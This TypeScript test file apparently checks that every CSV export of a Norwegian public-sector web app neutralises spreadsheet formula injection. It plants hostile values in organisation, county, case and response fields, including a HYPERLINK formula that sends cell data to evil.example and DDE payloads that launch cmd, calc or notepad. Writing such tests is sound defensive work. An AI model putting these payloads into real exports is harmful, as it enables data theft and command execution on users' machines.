import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseCsv } from 'csv-parse/sync';
import { createTestApp, createToken, createUser, type TestApp } from '../helpers/app.js';
import { dataTargets } from '../helpers/db.js';
import { createCaseViaApi } from '../helpers/cases.js';
import { createChallengeViaApi, respondViaApi } from '../fixtures/challenges.js';
import { ensureRound, seedStatisticsAnswers } from '../fixtures/barometer-stats.js';
import { neutraliseCell, csvDocument } from '../../src/core/csv.js';

/**
 * Finding 10 of issue 14: no CSV the service writes carries a live spreadsheet formula. Text that
 * starts like a formula is planted in every kind of field a CSV can show (organisation and county
 * names, case, challenge and round titles, response text); every CSV route in the app's own route
 * table is downloaded; no cell may start with = + - @ tab or CR unless it is a plain number the code
 * wrote (core/csv.ts says why those stay numeric). A CSV route missing below fails the test.
 */

const OSLO = '958935420';
const BERGEN = '964338531';

const HOSTILE = {
  oslo: '=HYPERLINK("https://evil.example/?d="&A1,"Klikk")',
  bergen: "+cmd|' /C calc'!A0",
  county03: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  county46: '\t=1+1',
  caseTitle: '-1+1 Digital skolevei',
  challengeTitle: '=cmd|\' /C notepad\'!A0 Fall blant eldre',
  response: '@SUM(A1:A9) vi har samme behov',
  round: '\r=HYPERLINK("https://evil.example","Barometer")',
} as const;

const DANGER = /^[=+\-@\t\r]/;
/** A number as the code writes one (counts, years, figures); never text a user typed. */
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/;

interface CsvRoute {
  /** The concrete URLs to download for this route. */
  urls: (t: TestApp, roundId: string) => Promise<string[]>;
  /** Whether at least one planted value must show up (neutralised) in these files. */
  planted: boolean;
}

const csvLinksOn = async (t: TestApp, page: string): Promise<string[]> => {
  const html = (await t.app.inject({ method: 'GET', url: page, headers: { accept: 'text/html' } })).body;
  const links = [...html.matchAll(/href="([^"]+\.csv[^"]*)"/g)].map((m) => m[1]!.replace(/&amp;/g, '&'));
  return [...new Set(links)];
};

const fixed = (...urls: string[]) => async () => urls;

const ROUTES: Record<string, CsvRoute> = {
  'GET /open-data/cases.csv': { urls: fixed('/open-data/cases.csv'), planted: true },
  'GET /open-data/organisations.csv': { urls: fixed('/open-data/organisations.csv'), planted: true },
  'GET /open-data/adoptions.csv': { urls: fixed('/open-data/adoptions.csv'), planted: false },
  'GET /open-data/challenges.csv': { urls: fixed('/open-data/challenges.csv'), planted: true },
  'GET /open-data/challenge-responses.csv': { urls: fixed('/open-data/challenge-responses.csv'), planted: true },
  'GET /open-data/barometer-aggregates.csv': { urls: fixed('/open-data/barometer-aggregates.csv'), planted: false },
  'GET /dashboard/participation.csv': { urls: fixed('/dashboard/participation.csv', '/dashboard/participation.csv?kind=municipality'), planted: true },
  'GET /dashboard/levels.csv': { urls: fixed('/dashboard/levels.csv'), planted: false },
  'GET /dashboard/indicators.csv': { urls: fixed('/dashboard/indicators.csv'), planted: false },
  'GET /barometer/rounds/:id/statistics/:file': {
    // Every CSV the statistics page links to, by county too (county names are group labels), and the trend.
    urls: async (t, roundId) => {
      const links = [...(await csvLinksOn(t, `/barometer/rounds/${roundId}/statistics`)), ...(await csvLinksOn(t, `/barometer/rounds/${roundId}/statistics?by=county`))];
      return [...new Set([...links, `/barometer/rounds/${roundId}/statistics/trend.csv`, `/barometer/rounds/${roundId}/statistics/innovated.csv?by=county`])];
    },
    planted: true,
  },
};

/** A GET route that answers CSV: its URL ends in .csv, or a path parameter is a .csv file name. */
function isCsvRoute(route: { method: string; url: string; schema?: { params?: unknown } }): boolean {
  if (route.method !== 'GET') return false;
  return route.url.endsWith('.csv') || /csv/.test(JSON.stringify(route.schema?.params ?? {}));
}

describe('the shared CSV writer', () => {
  it('prefixes formula-like text with a quote, keeps numbers numeric and quotes line breaks', () => {
    expect(neutraliseCell('=1+1')).toBe("'=1+1");
    for (const c of ['+', '-', '@', '\t', '\r']) expect(neutraliseCell(`${c}x`)).toBe(`'${c}x`);
    expect(neutraliseCell('Oslo')).toBe('Oslo');
    const doc = csvDocument([['a', 'b', 'c'], [-5, '-5', 'x\ny'], [true, null, '\r=1']], { bom: false });
    expect(doc).toBe('a,b,c\r\n-5,\'-5,"x\ny"\r\ntrue,,"\'\r=1"\r\n');
  });
});

describe.each(dataTargets())('every CSV export is formula-safe on $name PostgreSQL', (target) => {
  let t: TestApp;
  let roundId: string;

  beforeAll(async () => {
    t = await createTestApp(target);
    const db = t.database.db;
    await db.updateTable('organisations').set({ name: HOSTILE.oslo }).where('orgnr', '=', OSLO).execute();
    await db.updateTable('organisations').set({ name: HOSTILE.bergen }).where('orgnr', '=', BERGEN).execute();
    await db.updateTable('counties').set({ name: HOSTILE.county03 }).where('number', '=', '03').execute();
    await db.updateTable('counties').set({ name: HOSTILE.county46 }).where('number', '=', '46').execute();
    const member = await createUser(t, { org: OSLO });
    const memberToken = await createToken(t, member.id);
    const bergen = await createUser(t, { org: BERGEN });
    const bergenToken = await createToken(t, bergen.id);
    await createCaseViaApi(t, memberToken, { title: HOSTILE.caseTitle, ownerOrgnr: OSLO });
    const challenge = await createChallengeViaApi(t.app, memberToken, { title: HOSTILE.challengeTitle, ownerOrgnr: OSLO });
    await respondViaApi(t.app, bergenToken, challenge, { kind: 'same_need', body: HOSTILE.response, orgnr: BERGEN });
    roundId = await ensureRound(db, 'csv-2025', 2025, HOSTILE.round);
    await seedStatisticsAnswers(db, roundId);
  });
  afterAll(async () => t?.close());

  it('every CSV route of the route table is listed here', () => {
    const csvRoutes = t.app.routeTable.filter(isCsvRoute).map((r) => `${r.method} ${r.url}`);
    expect(csvRoutes.length).toBeGreaterThanOrEqual(Object.keys(ROUTES).length);
    expect(csvRoutes.filter((r) => !(r in ROUTES))).toEqual([]);
  });

  it('no cell of any CSV starts a formula; the planted values arrive neutralised', async () => {
    const offending: string[] = [];
    const arrived = new Set<string>();
    const withoutPlanted: string[] = [];
    const csvRoutes = t.app.routeTable.filter(isCsvRoute).map((r) => `${r.method} ${r.url}`);
    for (const key of csvRoutes) {
      const route = ROUTES[key]!;
      const urls = await route.urls(t, roundId);
      expect(urls.length, key).toBeGreaterThan(0);
      let plantedHere = 0;
      for (const url of urls) {
        const res = await t.app.inject({ method: 'GET', url });
        expect(res.statusCode, url).toBe(200);
        expect(res.headers['content-type'], url).toMatch(/^text\/csv/);
        const rows = parseCsv(res.body, { bom: true, relax_column_count: true }) as string[][];
        for (const cell of rows.flat()) {
          if (DANGER.test(cell) && !NUMBER.test(cell)) offending.push(`${url}: ${JSON.stringify(cell)}`);
          for (const value of Object.values(HOSTILE)) {
            if (cell.includes(neutraliseCell(value))) {
              arrived.add(value);
              plantedHere++;
            }
          }
        }
      }
      if (route.planted && plantedHere === 0) withoutPlanted.push(key);
    }
    expect(offending).toEqual([]);
    expect(withoutPlanted).toEqual([]);
    expect([...Object.values(HOSTILE)].filter((v) => !arrived.has(v))).toEqual([]);
  });
});
